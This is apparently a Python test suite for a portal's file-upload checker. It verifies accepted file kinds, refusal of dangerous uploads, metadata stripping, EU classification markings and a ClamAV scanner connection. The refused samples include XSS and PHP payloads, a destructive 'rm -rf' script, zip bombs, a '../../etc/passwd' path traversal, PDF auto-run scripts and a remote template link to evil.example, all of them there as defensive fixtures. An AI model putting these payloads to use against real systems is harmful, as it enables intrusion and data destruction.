"""Every kind of file that is taken, and everything that must not be, really generated."""

import io
import random
import socket
import struct
import threading
import zipfile
import zlib
from collections.abc import Iterator
from contextlib import contextmanager
from typing import Any

import pytest

from apps.documents import pictures, tiff
from apps.documents.examine import Examined, examine
from apps.documents.kinds import FileType
from apps.kernel.refusals import Refused
from portal.checks import scanner as scanner_check
from tests.documents import made


def refused(name: str, content: bytes) -> str:
    with pytest.raises(Refused) as no:
        examine(name, content)
    assert no.value.refusals[0].field == "upload"
    return str(no.value)


# ── What is taken ────────────────────────────────────────────────────────────────────
GOOD: dict[str, tuple[FileType, bytes]] = {
    "annex.pdf": (FileType.PDF, made.pdf()),
    "plain.pdf": (FileType.PDF, made.pdf(packed=False)),
    "scan.png": (FileType.PNG, made.png()),
    "photo.jpg": (FileType.JPEG, made.jpeg()),
    "photo.JPEG": (FileType.JPEG, made.jpeg()),
    "xray.tif": (FileType.TIFF, made.tiff()),
    "xray.tiff": (FileType.TIFF, made.tiff(">")),
    "list.docx": (FileType.DOCX, made.office("docx")),
    "list.xlsx": (FileType.XLSX, made.office("xlsx")),
    "list.pptx": (FileType.PPTX, made.office("pptx")),
    "bills.csv": (FileType.CSV, b"bill;container\n1;CSQU3054383\n and other words enough to read"),
    "note.txt": (FileType.TXT, "Ladeliste für den Containerzug nach Liège".encode()),
    "bom.txt": (FileType.TXT, b"\xef\xbb\xbf" + "Список контейнеров второго квартала".encode()),
    "letter.eml": (FileType.EML, made.mail(list_pdf=made.pdf(), photo_jpg=made.photo())),
}


@pytest.mark.parametrize("name", GOOD)
def test_each_kind_is_known_by_its_content(name: str) -> None:
    kind, content = GOOD[name]
    found = examine(name, content)
    assert (found.name, found.kind, found.scanner, found.warnings) == (name, kind, "", [])
    if kind not in {FileType.PNG, FileType.JPEG, FileType.TIFF}:
        assert found.content == content
        assert found.sha256 == found.received_sha256


# ── What is not ──────────────────────────────────────────────────────────────────────
BOMB = made.archive({"[Content_Types].xml": b"<x/>", "word/document.xml": bytes(60 * 2**20)})
HUGE = made.archive({"[Content_Types].xml": b"<x/>"} | {f"word/{n}.xml": b"ab" * 2**20 for n in range(60)}
                    | {"word/document.xml": b"<x/>"})  # fmt: skip
BAD: dict[str, tuple[str, bytes, str]] = {
    "nothing": ("empty.pdf", b"", "empty (0 bytes)"),
    "too large": ("large.txt", b"x" * (25 * 2**20 + 1), "too large"),
    "test virus": ("eicar.txt", made.EICAR, "Malware"),
    "test virus under another name": ("eicar.pdf", made.EICAR, "Malware"),
    "test virus in an office file": ("e.docx", made.office(**{"word/x.xml": made.EICAR}), "Malware"),
    "test virus in a mail": ("e.eml", made.mail(x_txt=made.EICAR), "Malware"),
    "test virus packed in a pdf": ("e.pdf", made.pdf(objects=made.packed(made.EICAR)), "Malware"),
    "program": ("tool.exe", b"MZ" + bytes(200), "type cannot be attached"),
    "program named as pdf": ("tool.pdf", b"MZ" + bytes(200), "Programs"),
    "program for linux": ("tool.txt", b"\x7fELF" + bytes(200), "Programs"),
    "script": ("run.txt", b"#!/bin/sh\nrm -rf\n", "Programs"),
    "two extensions": ("invoice.pdf.exe", made.pdf(), "type cannot be attached"),
    "no extension": ("invoice", made.pdf(), "type cannot be attached"),
    "only an extension": (".pdf", made.pdf(), "type cannot be attached"),
    "direction mark in the name": ("invoice\u202efdp.exe", made.pdf(), "type cannot be attached"),
    "pdf named as png": ("a.png", made.pdf(), "ends in .png, but the content is PDF"),
    "png named as jpeg": ("a.jpg", made.png(), "ends in .jpg, but the content is PNG"),
    "docx named as xlsx": ("a.xlsx", made.office("docx"), "ends in .xlsx, but the content is DOCX"),
    "text named as pdf": ("a.pdf", b"only words", "ends in .pdf, but the content is TXT"),
    "text named as mail": ("a.eml", b"only words", "the content is not a mail"),
    "text named as table": ("a.csv", b"only words", "no columns"),
    "page named as text": ("a.txt", b"  <!DOCTYPE html><script>alert(1)</script>", "Web pages"),
    "drawing named as png": ("a.png", b"<svg xmlns='x'><script/></svg>", "Web pages"),
    "noise": ("a.txt", bytes(range(256)), "of no type"),
    "text of another encoding": ("a.txt", "Müller".encode("latin-1"), "of no type"),
    "text of two bytes": ("a.txt", "Müller".encode("utf-16"), "of no type"),
    "zip": ("a.docx", made.archive({"a.txt": b"hello"}), "Archives"),
    "empty zip": ("a.docx", b"PK\x05\x06" + bytes(18), "Archives"),
    "rar": ("a.pdf", b"Rar!\x1a\x07\x01\x00", "Archives"),
    "old office": ("a.docx", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(512), "password"),
    "zip bomb": ("a.docx", BOMB, "enormous"),
    "zip of many": ("a.docx", HUGE, "enormous"),
    "archive inside": ("a.docx", made.office(**{"word/media/x.bin": made.archive({"a": b"b"})}), "another archive"),
    "office inside": ("a.docx", made.office(**{"word/embeddings/x.xlsx": made.office("xlsx")}), "embedded"),
    "program inside": ("a.docx", made.office(**{"word/media/x.png": b"MZ\x90"}), "embedded"),
    "macros": ("a.docx", made.office(**{"word/vbaProject.bin": b"x"}), "macros"),
    "macros by type": ("a.docx", made.office(**{"[Content_Types].xml": b"...macroEnabled.main+xml"}), "macros"),
    "locked office": ("a.docx", made.locked(made.office()), "password"),
    "template elsewhere": (
        "a.docx",
        made.office(**{"word/_rels/settings.xml.rels": b'<Relationships><Relationship Id="1" Type="http://x/attachedTemplate"'
                       b' Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>'}),
        "from another place",
    ),
    "path out of the archive": ("a.docx", made.office(**{"../../etc/passwd": b"x"}), "not put together"),
    "docx with something behind": ("a.docx", made.office() + b"more", "hidden behind"),
    "docx behind a docx": ("a.docx", made.office() + made.office(words="another"), "hidden before"),
    "half a docx": ("a.docx", made.office()[:-40], "damaged"),
    "pdf not at the beginning": ("a.txt", b"hello\n" + made.pdf(packed=False), "PDF is hidden"),
    "pdf in a picture": ("a.jpg", made.jpeg(made.segment(0xFE, made.pdf())), "PDF is hidden"),
    "zip behind a picture": ("a.png", made.png() + made.archive({"a": b"b"}), "archive is hidden"),
    "zip behind a photograph": ("a.jpg", made.jpeg() + made.archive({"a": b"b"}), "archive is hidden"),
    "zip behind a pdf": ("a.pdf", made.pdf() + made.archive({"a": b"b"}), "archive is hidden"),
    "zip in a tiff": ("a.tif", made.tiff() + made.archive({"a": b"b"}), "archive is hidden"),
    "something behind a picture": ("a.png", made.png() + b"secret plans", "hidden behind"),
    "something behind a photograph": ("a.jpg", made.jpeg() + b"secret plans", "hidden behind"),
    "something behind a pdf": ("a.pdf", made.pdf() + b"secret plans", "hidden behind"),
    "script in a picture": ("a.png", made.png(made.chunk(b"tEXt", b"x\0<script>alert(1)</script>")), "web page"),
    "page in a photograph": ("a.jpg", made.jpeg(made.segment(0xFE, b"<html><body>")), "web page"),
    "php in a tiff": ("a.tif", made.tiff(artist=b"<?php system(1)"), "web page"),
    "picture of a thousand million pixels": ("a.png", made.png(width=40_000, height=40_000), "too large"),
    "picture without pixels": ("a.png", made.png(width=0), "empty or too large"),
    "half a picture": ("a.png", made.png()[:-10], "damaged"),
    "picture with a wrong checksum": ("a.png", made.png()[:-14] + b"\0" + made.png()[-13:], "damaged"),
    "half a photograph": ("a.jpg", made.jpeg()[:-2], "damaged"),
    "half a tiff": ("a.tif", made.tiff()[:60], "damaged"),
    "tiff in a circle": ("a.tif", made.tiff()[:-4] + struct.pack("<I", 22), "damaged"),
    "pdf without an end": ("a.pdf", made.pdf().replace(b"%%EOF", b""), "no end"),
    "locked pdf": ("a.pdf", made.pdf(catalogue=b"/Encrypt 9 0 R "), "password"),
    "pdf with a script": ("a.pdf", made.pdf(catalogue=b"/OpenAction << /S /JavaScript /JS (x) >> "), "scripts"),
    "pdf with a script by numbers": ("a.pdf", made.pdf(catalogue=b"/OpenAction << /S /J#61vaScript >> "), "scripts"),
    "pdf that starts a program": ("a.pdf", made.pdf(catalogue=b"/OpenAction << /S /Launch >> "), "scripts"),
    "pdf with a file": ("a.pdf", made.pdf(catalogue=b"/Names << /EmbeddedFiles 9 0 R >> "), "scripts"),
    "mail in a mail": ("a.eml", made.mail(x_eml=made.mail()), "other mails"),
    "program in a mail": ("a.eml", made.mail(x_pdf=b"MZ" + bytes(100)), "Programs"),
    "archive in a mail": ("a.eml", made.mail(x_zip=made.archive({"a": b"b"})), "type cannot be attached"),
}  # fmt: skip


@pytest.mark.parametrize("case", BAD)
def test_each_bad_file_is_refused_with_its_reason(case: str) -> None:
    name, content, reason = BAD[case]
    assert reason in refused(name, content)


def test_an_entry_that_lies_about_its_size_is_refused() -> None:
    content = bytearray(made.office(**{"word/x.xml": b"a" * 5000}))
    at = content.rfind(b"PK\x01\x02", 0, content.rfind(b"word/x.xml"))
    content[at + 24 : at + 28] = struct.pack("<I", 10)  # it says ten bytes, and there are five thousand
    assert refused("a.docx", bytes(content)) == "The file is damaged and cannot be opened."


def test_a_script_packed_into_an_object_stream_is_found() -> None:
    packed = zlib.compress(b"5 0 << /S /JavaScript /JS (app.alert) >>")
    stream = b"9 0 obj\n<< /Type /ObjStm /N 1 /Filter /FlateDecode >>\nstream\n" + packed + b"\nendstream\nendobj\n"
    assert "scripts" in refused("a.pdf", made.pdf(objects=stream))
    odd = stream.replace(b"/FlateDecode", b"[/FlateDecode /FlateDecode]")
    assert "scripts" in refused("a.pdf", made.pdf(objects=odd))


def test_a_pdf_that_unpacks_without_end_is_refused() -> None:
    packed = zlib.compress(bytes(101 * 2**20))
    stream = b"9 0 obj\n<< /Filter /FlateDecode >>\nstream\n" + packed + b"\nendstream\nendobj\n"
    assert "enormous" in refused("a.pdf", made.pdf(objects=stream))


# ── Names ────────────────────────────────────────────────────────────────────────────
def test_a_name_keeps_neither_folders_nor_marks_nor_excess() -> None:
    assert examine("C:\\cases\\..\\a\u202e\u0000b.txt", b"words").name == "ab.txt"
    assert examine("/srv/x/annex.txt", b"words").name == "annex.txt"
    assert examine("n" * 300 + ".txt", b"words").name == "n" * 116 + ".txt"


# ── What cameras and programs note ───────────────────────────────────────────────────
def test_a_photograph_keeps_its_picture_and_loses_place_maker_and_comment() -> None:
    photo = made.photo()
    found = examine("photo.jpg", photo)
    assert found.removed == ["EXIF", "GPS", "TEXT"]
    assert b"Spyphone" not in found.content
    assert b"Jane Doe" not in found.content
    assert made.jpeg()[-len(made._TABLES) - 13 :] == found.content[-len(made._TABLES) - 13 :]
    assert found.received_sha256 != found.sha256


def test_a_photograph_stays_the_way_up_it_was() -> None:
    kept = examine("photo.jpg", made.photo()).content
    at = kept.find(b"Exif\0\0")
    assert pictures.orientation(kept[at + 6 :]) == 6
    assert tiff.GPS not in tiff.Reader(kept[at + 6 :]).pages()[0]
    assert examine("photo.jpg", kept).content == kept


def test_a_second_picture_behind_the_first_is_cut_off() -> None:
    found = examine("photo.jpg", made.jpeg() + made.photo())
    assert found.content == made.jpeg()
    assert found.removed == ["OTHER"]


def test_a_drawing_loses_texts_and_unknown_parts() -> None:
    extra = (made.chunk(b"tEXt", b"Author\0Jane Doe"), made.chunk(b"eXIf", made.exif()), made.chunk(b"prVt", b"secret"))
    found = examine("scan.png", made.png(*extra))
    assert found.content == made.png()
    assert found.removed == ["EXIF", "GPS", "OTHER", "TEXT"]


@pytest.mark.parametrize("order", ["<", ">"])
def test_a_tiff_is_written_anew_with_its_picture_only(order: str) -> None:
    found = examine("xray.tif", made.tiff(order) + b"something that nothing points to")
    assert found.removed == ["TEXT"]
    assert b"Jane Doe" not in found.content
    assert b"nothing points" not in found.content
    reader = tiff.Reader(found.content)
    (page,) = reader.pages()
    start, length = reader.numbers(page[273])[0], reader.numbers(page[279])[0]
    assert found.content[start : start + length] == b"\x10\x20\x30\x40"


# ── EU classification ────────────────────────────────────────────────────────────────
HIGH = ["CONFIDENTIEL UE/EU CONFIDENTIAL", "SECRET UE / EU SECRET", "Très secret UE/EU top secret"]
CARRIERS = {
    "a.txt": lambda words: words.encode(),
    "a.csv": lambda words: f"{words};x".encode(),
    "a.docx": lambda words: made.office("docx", words),
    "b.docx": lambda words: made.office("docx", **{"word/header1.xml": f"<w:t>{words}</w:t>".encode()}),
    "a.xlsx": lambda words: made.office("xlsx", words),
    "a.pptx": lambda words: made.office("pptx", words),
    "a.pdf": made.pdf,
    "b.pdf": made.pdf_in_letters_of_its_own,
    "a.eml": made.mail,
}


@pytest.mark.parametrize("name", CARRIERS)
@pytest.mark.parametrize("marking", HIGH)
def test_what_is_marked_confidential_or_above_is_refused(name: str, marking: str) -> None:
    assert "CONFIDENTIEL UE/EU CONFIDENTIAL or above" in refused(name, CARRIERS[name](marking))


def test_what_is_marked_restricted_is_refused_where_the_portal_is_not_accredited(settings: Any) -> None:
    content = made.pdf("RESTREINT UE/EU RESTRICTED")
    assert "not accredited" in refused("a.pdf", content)
    settings.ACCREDITED_FOR_RESTRICTED = True
    assert examine("a.pdf", content).warnings == ["EU_WORDS"]


def test_words_of_classification_alone_are_a_warning() -> None:
    assert examine("a.txt", b"The report of the visit was EU RESTRICTED at the time.").warnings == ["EU_WORDS"]
    assert examine("a.txt", b"Customs secrecy rules of the EU, secretariat note").warnings == []


def test_a_first_page_that_cannot_be_read_is_said() -> None:
    assert examine("a.pdf", made.pdf("")).warnings == ["NO_TEXT"]


# ── A scanner of the operator ────────────────────────────────────────────────────────
@contextmanager
def clamd(answer: bytes) -> Iterator[tuple[str, list[bytes]]]:
    """A server that speaks INSTREAM as clamd does, once, and gives this answer."""
    heard: list[bytes] = []
    with socket.create_server(("127.0.0.1", 0)) as server:

        def serve() -> None:
            link, _address = server.accept()
            with link, link.makefile("rb") as stream:
                heard.append(stream.read(10))
                while size := struct.unpack(">I", stream.read(4))[0]:
                    heard.append(stream.read(size))
                link.sendall(answer)

        thread = threading.Thread(target=serve)
        thread.start()
        yield f"127.0.0.1:{server.getsockname()[1]}", heard
        thread.join(timeout=5)


def scanned(settings: Any, answer: bytes) -> tuple[Examined, list[bytes]]:
    with clamd(answer) as (where, heard):
        settings.CLAMD = where
        return examine("a.txt", b"words " * 50_000), heard


def test_the_scanner_hears_the_whole_file_and_is_named(settings: Any) -> None:
    found, heard = scanned(settings, b"stream: OK\0")
    assert found.scanner == "ClamAV"
    assert heard[0] == b"zINSTREAM\0"
    assert b"".join(heard[1:]) == b"words " * 50_000
    assert len(heard) == 4, "in pieces"


def test_what_the_scanner_finds_is_refused_by_its_name(settings: Any) -> None:
    with pytest.raises(Refused, match=r"Malware was found in this file \(Win.Trojan.Agent-1\)"):
        scanned(settings, b"stream: Win.Trojan.Agent-1 FOUND\0")


def test_a_scanner_that_fails_lets_nothing_through(settings: Any) -> None:
    with pytest.raises(Refused, match="cannot be scanned now"):
        scanned(settings, b"INSTREAM size limit exceeded. ERROR\0")
    with pytest.raises(Refused, match="cannot be scanned now"):
        scanned(settings, b"")
    settings.CLAMD = "127.0.0.1:9"
    assert "cannot be scanned now" in refused("a.txt", b"words")
    settings.CLAMD = "no address"
    assert "cannot be scanned now" in refused("a.txt", b"words")
    settings.CLAMD = "unix:/nowhere/clamd.ctl"
    assert "cannot be scanned now" in refused("a.txt", b"words")


def test_made_files_are_real() -> None:
    assert zipfile.ZipFile(io.BytesIO(made.office())).testzip() is None


def test_an_installation_without_a_scanner_is_told_so(settings: Any) -> None:
    settings.DEMONSTRATION = False
    assert [found.id for found in scanner_check(None)] == ["portal.W006"]
    settings.CLAMD = "127.0.0.1:3310"
    assert scanner_check(None) == []


# ── Damage of every kind ─────────────────────────────────────────────────────────────
def damaged(content: bytes, chance: random.Random) -> bytes:
    """The content with a few bytes changed, cut out, or said twice."""
    out = bytearray(content)
    for _time in range(chance.choice([1, 1, 2, 5, 20])):
        at = chance.randrange(len(out))
        how = chance.randrange(4)
        if how == 0:
            out[at] = chance.choice([0, 1, 127, 128, 255])
        elif how == 1 and len(out) > 60:
            del out[at : at + chance.randrange(1, 40)]
        elif how == 2:
            out[at:at] = out[chance.randrange(len(out)) :][:60]
        else:
            out[at : at + 4] = chance.choice([b"\xff" * 4, bytes(4), b"\x7f\xff\xff\xff"])
    return bytes(out)


@pytest.mark.parametrize("name", GOOD)
def test_whatever_is_damaged_is_taken_or_refused_and_never_an_error(name: str) -> None:
    chance, reasons = random.Random(name), []
    for _time in range(400):
        try:
            examine(name, damaged(GOOD[name][1], chance))
        except Refused as no:
            reasons.append(str(no))
    assert reasons, "damage is noticed"
    assert min(map(len, reasons)) > 20
